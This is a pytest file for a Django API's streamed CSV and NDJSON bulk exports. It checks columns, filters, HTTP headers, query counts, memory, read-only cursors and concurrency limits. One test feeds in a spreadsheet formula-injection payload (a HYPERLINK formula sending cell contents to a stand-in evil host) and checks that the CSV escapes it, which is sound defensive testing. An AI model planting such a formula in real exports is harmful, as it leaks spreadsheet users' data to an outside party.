"""Bulk exports: /api/v1/exports/<resource>.csv and .ndjson."""

import csv
import datetime
import gc
import io
import json
import tracemalloc
from pathlib import Path

import orjson
import pytest
from django.core.signals import request_finished
from django.db import close_old_connections, connection, transaction
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from drf_spectacular.generators import SchemaGenerator

from statements import export_columns, exports
from statements.api import concurrency
from statements.api.filters import FILTERSETS
from statements.choices import Fidelity, StakeholderRole
from statements.management.commands.export_docs import with_tables
from statements.models import Quote, QuoteSpan, QuoteStakeholder
from tests.conftest import connect_test_database
from tests.factories import (
    EventFactory,
    QuoteFactory,
    QuoteStakeholderFactory,
    SpeakerFactory,
    SpeakerRoleFactory,
    StakeholderGroupFactory,
    StatementFactory,
    ThemeFactory,
)

ROOT = Path(__file__).resolve().parents[2]
FIXTURE = json.loads((ROOT / "fixtures" / "blinken.json").read_text(encoding="utf-8"))
RESOURCES = list(exports.RESOURCES)
FORMATS = list(exports.FORMATS)
# A CSV is one COPY. An NDJSON file is one query for the ids, then per chunk the
# queries of a list page of that resource.
# While the body streams; each ends with the one query that gives the export's
# slots back (statements.api.concurrency).
CSV_QUERIES = 2
NDJSON_QUERIES = {
    "quotes": 5,
    "statements": 5,
    "speakers": 4,
    "events": 5,
    "themes": 4,
    "stakeholder-groups": 3,
    "organizations": 4,
}


def export_url(resource, fmt, query=""):
    return f"/api/v1/exports/{resource}.{fmt}" + (f"?{query}" if query else "")


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8"), newline="")))


def ndjson_records(response) -> list[dict]:
    return [json.loads(line) for line in body(response).decode("utf-8").splitlines()]


def list_items(client, resource, query=""):
    response = client.get(f"/api/v1/{resource}/?page_size=100&{query}")
    assert response.status_code == 200, response.content
    page = response.json()
    assert page["count"] <= 100, "the test data must fit one page"
    return page["count"], page["results"]


# --- Shape and content ---------------------------------------------------------------


@pytest.mark.parametrize("resource", RESOURCES)
def test_csv_has_the_documented_header_and_a_row_per_listed_record(
    client, seeded, resource
):
    response = client.get(export_url(resource, "csv"))

    assert response.status_code == 200
    header, *rows = csv_rows(response)
    assert header == [column.name for column in exports.RESOURCES[resource].columns]
    count, items = list_items(client, resource)
    assert count > 0
    assert len(rows) == count
    assert [row[0] for row in rows] == [item["slug"] for item in items]


@pytest.mark.parametrize("resource", RESOURCES)
def test_ndjson_records_are_the_list_items_but_for_the_documented_differences(
    client, seeded, resource
):
    response = client.get(export_url(resource, "ndjson"))

    assert response.status_code == 200
    records = ndjson_records(response)
    _, items = list_items(client, resource)
    assert [r["slug"] for r in records] == [item["slug"] for item in items]
    fields = [field.name for field in exports.RESOURCES[resource].fields]
    for record, item in zip(records, items, strict=True):
        assert list(record) == fields
        assert set(item) - set(record) == set(exports.RESOURCES[resource].left_out)
        assert set(record) - set(item) == set(exports.RESOURCES[resource].added)
        assert {k: v for k, v in record.items() if k in item} == {
            k: v for k, v in item.items() if k in record
        }


def test_quote_csv_row_flattens_the_related_objects(client, seeded):
    rows = csv_rows(client.get(export_url("quotes", "csv", "ordering=slug")))
    by_slug = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    fixture = {quote["slug"]: quote for quote in FIXTURE["quotes"]}
    slug = "blinken-stabilize-and-strengthen-host-communities"
    row, expected = by_slug[slug], fixture[slug]

    assert row["text"] == expected["text"]
    assert row["fidelity"] == "direct"
    assert row["spans"] == ";".join(f"{s}-{e}" for s, e in expected["spans"])
    assert sorted(row["themes"].split("|")) == sorted(expected["themes"])
    assert sorted(row["stakeholder_groups"].split("|")) == sorted(
        f"{link['group']}:{link['role']}" for link in expected["stakeholder_groups"]
    )
    assert row["speaker_slug"] == "antony-blinken"
    assert row["statement_slug"] == "voa-blinken-on-meeting-the-migration-challenge"
    assert row["publisher"] == "Voice of America"
    assert row["license"] == "Public domain (work of the U.S. Government)"
    assert row["published_on"] == ""  # unknown: an empty cell, never "None"
    assert row["url"] == f"http://testserver/api/v1/quotes/{slug}/"
    assert row["created_at"].endswith("Z")


def test_a_two_piece_quote_lists_both_spans(client, seeded):
    rows = csv_rows(client.get(export_url("quotes", "csv")))
    spans = {row[0]: row[3] for row in rows[1:]}
    expected = {
        quote["slug"]: ";".join(f"{s}-{e}" for s, e in quote["spans"])
        for quote in FIXTURE["quotes"]
    }
    assert spans == expected
    assert any(";" in value for value in spans.values())


# --- Filters -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("resource", "query"),
    [
        ("quotes", "theme=migration"),
        ("quotes", "theme=host-communities"),
        ("quotes", "fidelity=direct"),
        ("quotes", "fidelity=reported&ordering=-slug"),
        ("quotes", "stakeholder_group=migrants&stakeholder_role=affected"),
        ("quotes", "q=border"),
        ("statements", "theme=covid-19"),
        ("events", "top_level=true"),
        ("themes", "parent=host-communities"),
        ("stakeholder-groups", "category=affected_population"),
    ],
)
def test_exports_honour_the_list_filters(client, seeded, resource, query):
    count, items = list_items(client, resource, query)
    csv_response = client.get(export_url(resource, "csv", query))
    ndjson_response = client.get(export_url(resource, "ndjson", query))

    assert count > 0
    assert [row[0] for row in csv_rows(csv_response)[1:]] == [i["slug"] for i in items]
    assert [r["slug"] for r in ndjson_records(ndjson_response)] == [
        i["slug"] for i in items
    ]


def test_theme_filter_includes_descendant_themes(client, seeded):
    tagged_directly = {
        q["slug"] for q in FIXTURE["quotes"] if "migration" in q["themes"]
    }
    records = ndjson_records(
        client.get(export_url("quotes", "ndjson", "theme=migration"))
    )

    assert {r["slug"] for r in records} == {q["slug"] for q in FIXTURE["quotes"]}
    assert len(tagged_directly) < len(records)


def test_fidelity_filter(client, seeded):
    rows = csv_rows(client.get(export_url("quotes", "csv", "fidelity=reported")))
    expected = {q["slug"] for q in FIXTURE["quotes"] if q["fidelity"] == "reported"}

    assert {row[0] for row in rows[1:]} == expected
    assert {row[2] for row in rows[1:]} == {"reported"}


@pytest.mark.parametrize("fmt", ["csv", "ndjson"])
@pytest.mark.parametrize(
    "query", ["fidelity=verbatim", "theme=no-such-theme", "date_from=yesterday"]
)
def test_an_invalid_filter_is_the_lists_400_problem(client, seeded, fmt, query):
    response = client.get(export_url("quotes", fmt, query), HTTP_ACCEPT="text/csv")

    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    problem = response.json()
    assert problem == client.get(f"/api/v1/quotes/?{query}").json()
    assert problem["errors"][0]["parameter"] == query.split("=")[0]


# --- HTTP -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [("csv", "text/csv; charset=utf-8"), ("ndjson", "application/x-ndjson")],
)
@pytest.mark.parametrize("resource", RESOURCES)
def test_content_type_and_attachment_name(client, seeded, resource, fmt, content_type):
    response = client.get(export_url(resource, fmt))

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == content_type
    today = timezone.now().date().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="statements-api-{resource}-{today}.{fmt}"'
    )


def test_the_path_names_the_format_whatever_accept_says(client, seeded):
    response = client.get(export_url("quotes", "csv"), HTTP_ACCEPT="application/xml")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_the_schema_documents_every_export_with_the_lists_filters():
    schema = SchemaGenerator().get_schema(request=None, public=True)
    for name in RESOURCES:
        filters = set(FILTERSETS[exports.RESOURCES[name].resource.kind].base_filters)
        list_operation = schema["paths"][f"/api/v1/{name}/"]["get"]
        assert filters <= {p["name"] for p in list_operation["parameters"]}
        for fmt, media_type in [
            ("csv", "text/csv"),
            ("ndjson", "application/x-ndjson"),
        ]:
            operation = schema["paths"][f"/api/v1/exports/{name}.{fmt}"]["get"]
            assert {p["name"] for p in operation["parameters"]} == filters
            assert list(operation["responses"]["200"]["content"]) == [media_type]
            assert list(operation["responses"]["400"]["content"]) == [
                "application/problem+json"
            ]
            names = [c.name for c in exports.RESOURCES[name].columns]
            if fmt == "ndjson":
                names = [f.name for f in exports.RESOURCES[name].fields]
            assert all(f"`{n}`" in operation["description"] for n in names)
    quotes = schema["paths"]["/api/v1/exports/quotes.csv"]["get"]
    assert {"theme", "fidelity", "q"} <= {p["name"] for p in quotes["parameters"]}


def test_docs_list_the_columns_of_every_export():
    docs = (ROOT / "docs" / "exports.md").read_text(encoding="utf-8")
    for resource in exports.RESOURCES.values():
        assert export_columns.columns_markdown(resource) in docs
    # What `make schema` (manage.py export_docs) would write is what is committed.
    assert with_tables(docs) == docs


# --- Escaping ------------------------------------------------------------------------


@pytest.mark.django_db
def test_quotes_commas_and_newlines_round_trip(client):
    awkward = 'She said "no, never",\nthen left; a|b:c\r\nand – “curly”.'
    statement = StatementFactory(text=awkward, title='A "title", with commas')
    QuoteFactory(
        statement=statement,
        spans=[(0, len(awkward))],
        provenance_note="line one\nline two",
    )

    header, row = csv_rows(client.get(export_url("quotes", "csv")))
    cells = dict(zip(header, row, strict=True))
    [record] = ndjson_records(client.get(export_url("quotes", "ndjson")))

    assert cells["text"] == awkward
    assert cells["statement_title"] == 'A "title", with commas'
    assert cells["provenance_note"] == "line one\nline two"
    assert record["text"] == awkward
    [statement_row] = csv_rows(client.get(export_url("statements", "csv")))[1:]
    assert awkward in statement_row


@pytest.mark.django_db
def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_ndjson_keeps_them(client):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    text = '+1 more. @everyone. - a dash. \'quoted. "Said". \tTab. =A1'
    statement = StatementFactory(text=text, title="@SUM(A1:A9)", publisher__name="-2+3")
    speaker = SpeakerFactory(name=formula)
    sentences = [(0, 8), (9, 19), (20, 29), (30, 38), (39, 46), (47, 52)]
    for start, end in sentences:
        QuoteFactory(statement=statement, speaker=speaker, spans=[(start, end)])

    header, *rows = csv_rows(client.get(export_url("quotes", "csv")))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    records = ndjson_records(client.get(export_url("quotes", "ndjson")))

    assert [c["text"] for c in cells] == [
        "'+1 more.",
        "'@everyone.",
        "'- a dash.",
        "''quoted.",
        '"Said".',
        "'\tTab.",
    ]
    assert {c["speaker_name"] for c in cells} == {"'" + formula}
    assert {c["statement_title"] for c in cells} == {"'@SUM(A1:A9)"}
    assert [r["text"] for r in records] == [text[s:e] for s, e in sentences]
    assert {r["speaker"]["name"] for r in records} == {formula}
    header, row = csv_rows(client.get(export_url("speakers", "csv")))
    assert dict(zip(header, row, strict=True))["name"] == "'" + formula
    header, row = csv_rows(client.get(export_url("statements", "csv")))
    statement_cells = dict(zip(header, row, strict=True))
    assert statement_cells["publisher_name"] == "'-2+3"
    assert statement_cells["author_name"] == "'-2+3"
    assert statement_cells["text"] == "'" + text


# --- Queries and memory --------------------------------------------------------------


def make_quotes(n: int, *, feed: bool = True, batch: int = 1_000) -> None:
    """`n` quotes with a span, two themes and a stakeholder link, in few queries.

    With feed=False the change feed's triggers are off while the rows are made
    (a superuser setting, local to each batch's transaction): they cost more than
    the rest of the insert, and the feed is not what such tests look at.
    """
    statement = StatementFactory(text="Words worth quoting. And more words.")
    speaker = SpeakerFactory()
    themes = [ThemeFactory(), ThemeFactory()]
    group = StakeholderGroupFactory()
    start = Quote.objects.count()
    for offset in range(0, n, batch):
        with transaction.atomic():
            if not feed:
                with connection.cursor() as cursor:
                    cursor.execute("SET LOCAL session_replication_role = replica")
            quotes = Quote.objects.bulk_create(
                Quote(
                    slug=f"bulk-quote-{start + i}",
                    statement=statement,
                    speaker=speaker,
                    fidelity=Fidelity.DIRECT,
                    text="Words worth quoting.",
                )
                for i in range(offset, min(n, offset + batch))
            )
            QuoteSpan.objects.bulk_create(
                QuoteSpan(quote=quote, position=0, start=0, end=20) for quote in quotes
            )
            Quote.themes.through.objects.bulk_create(
                Quote.themes.through(quote=quote, theme=theme)
                for quote in quotes
                for theme in themes
            )
            QuoteStakeholder.objects.bulk_create(
                QuoteStakeholder(
                    quote=quote, group=group, role=StakeholderRole.AFFECTED
                )
                for quote in quotes
            )


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "ndjson"])
@pytest.mark.parametrize("resource", RESOURCES)
@pytest.mark.parametrize("rows", [1, 40])
def test_query_count_does_not_grow_with_the_rows(
    client, django_assert_num_queries, resource, fmt, rows
):
    for _ in range(rows):
        statement = StatementFactory(
            event=EventFactory(parent=EventFactory()),
            themes=[ThemeFactory(parent=ThemeFactory())],
            stakeholder_groups=[StakeholderGroupFactory()],
        )
        quote = QuoteFactory(statement=statement, themes=statement.themes.all())
        SpeakerRoleFactory(speaker=quote.speaker)
        QuoteStakeholderFactory(quote=quote, group=statement.stakeholder_groups.get())
    model = exports.RESOURCES[resource].model

    response = client.get(export_url(resource, fmt))
    # The rows are read while the body streams, after the view has returned.
    queries = CSV_QUERIES if fmt == "csv" else NDJSON_QUERIES[resource]
    with django_assert_num_queries(queries):
        records = csv_rows(response)[1:] if fmt == "csv" else ndjson_records(response)

    count = model.objects.count()
    assert count >= rows
    assert len(records) == count


@pytest.mark.django_db
def test_related_rows_are_fetched_per_chunk_not_per_row(django_assert_num_queries):
    make_quotes(5)

    # The ids; then for each chunk the rows (with spans and roles), themes and
    # stakeholder links, as a page of the list costs.
    rows = exports.RESOURCES["quotes"].rows
    with django_assert_num_queries(1 + 3 * 3):
        chunks = list(rows(Quote.objects.all(), chunk_size=2))

    assert [len(chunk) for chunk in chunks] == [2, 2, 1]
    assert all(len(record["themes"]) == 2 for chunk in chunks for record in chunk)


def peak_memory_while_streaming(client, url) -> tuple[int, int]:
    """(peak traced bytes, body bytes) of one export, consumed and thrown away."""
    gc.collect()
    tracemalloc.start()
    try:
        response = client.get(url)
        # map() keeps no piece alive while the next one is made, as a server would.
        size = sum(map(len, response.streaming_content))
        return tracemalloc.get_traced_memory()[1], size
    finally:
        tracemalloc.stop()


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_memory_stays_flat_whatever_the_row_count(client):
    # Outside a test transaction, as in production.
    make_quotes(2_000, feed=False)
    urls = {fmt: export_url("quotes", fmt) for fmt in FORMATS}
    for url in urls.values():  # warm caches and imports
        peak_memory_while_streaming(client, url)
    small = {fmt: peak_memory_while_streaming(client, url) for fmt, url in urls.items()}
    make_quotes(18_000, feed=False)
    large = {fmt: peak_memory_while_streaming(client, url) for fmt, url in urls.items()}

    # 18,000 more rows: keeping even 30 bytes of each would break the bound.
    bound = 500_000
    for fmt in FORMATS:
        (small_peak, small_size), (large_peak, large_size) = small[fmt], large[fmt]
        assert large_size - small_size > 5 * bound
        assert abs(large_peak - small_peak) < bound, (fmt, small_peak, large_peak)


# --- Outside a test transaction, as in production ------------------------------------


@pytest.mark.django_db(transaction=True)
def test_an_export_streams_from_a_server_side_cursor_in_a_read_only_snapshot(
    client,
):
    make_quotes(exports.CHUNK_SIZE + 500, feed=False)

    with CaptureQueriesContext(connection) as queries:
        response = client.get(export_url("quotes", "ndjson"))
        pieces = iter(response.streaming_content)
        first = next(pieces)
        with connection.cursor() as cursor:
            cursor.execute("SELECT is_holdable, is_scrollable FROM pg_cursors")
            cursors = cursor.fetchall()
            cursor.execute("SHOW transaction_isolation")
            isolation = cursor.fetchone()[0]
            cursor.execute("SHOW transaction_read_only")
            read_only = cursor.fetchone()[0]
        rest = b"".join(pieces)

    sql = [query["sql"] for query in queries.captured_queries]
    begin = sql.index("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY")
    assert begin < min(i for i, s in enumerate(sql) if '"statements_quote"' in s)
    assert cursors == [(False, False)]  # not WITH HOLD: cheap to open
    assert (isolation, read_only) == ("repeatable read", "on")
    assert first.count(b"\n") == exports.CHUNK_SIZE
    assert (first + rest).count(b"\n") == exports.CHUNK_SIZE + 500
    assert connection.get_autocommit(), "the export's transaction has ended"


def test_dates_and_times_are_iso_8601_with_z():
    moment = datetime.datetime(2024, 5, 6, 7, 8, 9, 123456, tzinfo=datetime.UTC)
    record = {"at": moment, "on": moment.date(), "none": None}

    assert orjson.loads(exports.ndjson_encode([record])) == {
        "at": "2024-05-06T07:08:09.123456Z",
        "on": "2024-05-06",
        "none": None,
    }


# --- exports at once (statements.api.concurrency) ----------------------------


@pytest.fixture
def no_slots_held(db):
    """Responses that a test never read nor closed keep their slots on the test's
    connection (a server always closes them); start without any."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT pg_advisory_unlock_all()")


@pytest.fixture
def other_process(no_slots_held):
    """A connection of its own to the test database: another server process."""
    with connect_test_database() as other:
        yield other


def close_unread(response):
    """Close a streamed response as the server does, without the test client's
    end-of-request signal (which would close the test's connection)."""
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)


def hold_slots(other, *pairs):
    for space, key in pairs:
        assert other.execute(
            "SELECT pg_try_advisory_lock(%s, %s)", [space, key]
        ).fetchone()[0]


def client_slot(bucket: str, n: int) -> tuple[int, int]:
    return concurrency.CLIENT_SLOTS, concurrency._int4(f"{bucket}#{n}")


@pytest.mark.django_db
def test_a_client_with_two_exports_running_gets_429_for_a_third(client, other_process):
    hold_slots(
        other_process, client_slot("ip:127.0.0.1", 0), client_slot("ip:127.0.0.1", 1)
    )
    response = client.get(export_url("quotes", "csv"))
    assert response.status_code == 429
    assert response["Content-Type"] == "application/problem+json"
    assert response["Retry-After"] == "5"
    assert "2 export(s) running" in response.json()["detail"]
    # Another client is not held back, and the first gets its turn once one ends.
    other = client.get(export_url("quotes", "csv"), REMOTE_ADDR="192.0.2.9")
    assert other.status_code == 200
    close_unread(other)
    other_process.execute("SELECT pg_advisory_unlock_all()")
    again = client.get(export_url("quotes", "csv"))
    assert again.status_code == 200
    close_unread(again)


@pytest.mark.django_db
def test_the_service_runs_at_most_exports_in_total_at_once(
    client, other_process, settings
):
    hold_slots(
        other_process,
        *[(concurrency.SERVICE_SLOTS, n) for n in range(settings.EXPORTS_IN_TOTAL)],
    )
    response = client.get(export_url("speakers", "ndjson"))
    assert response.status_code == 503
    assert response["Content-Type"] == "application/problem+json"
    assert response["Retry-After"] == "5"
    # The client's own slot was given back: nothing of it is left held.
    assert not locks_held_here()


def locks_held_here() -> list:
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT classid, objid FROM pg_locks WHERE locktype = 'advisory' "
            "AND pid = pg_backend_pid()"
        )
        return cursor.fetchall()


@pytest.mark.django_db
@pytest.mark.parametrize("read", ["all", "nothing"])
def test_an_export_gives_its_slots_back_however_it_ends(client, no_slots_held, read):
    response = client.get(export_url("quotes", "ndjson"))
    assert response.status_code == 200
    assert len(locks_held_here()) == 2
    if read == "all":
        # The test client closes the response once its content is read.
        b"".join(response.streaming_content)
    else:
        close_unread(response)
    assert not locks_held_here()
